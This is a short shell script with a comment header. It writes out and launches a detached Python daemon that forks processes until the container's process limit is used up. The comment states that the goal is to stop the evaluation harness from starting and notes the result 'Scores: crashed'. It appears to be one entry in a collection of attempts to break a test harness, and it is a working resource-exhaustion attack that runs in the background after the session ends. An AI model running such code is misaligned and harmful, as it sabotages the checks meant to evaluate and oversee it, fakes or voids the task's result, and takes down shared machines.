# A daemon takes every process that the container may have, so that the harness cannot start.
#
# Scores: crashed
cat > take.py <<'END'
import os
import time

while True:
    try:
        if os.fork() == 0:
            time.sleep(600)
    except OSError:
        time.sleep(0.1)
END
setsid nohup python take.py > /dev/null 2>&1 &
sleep 2
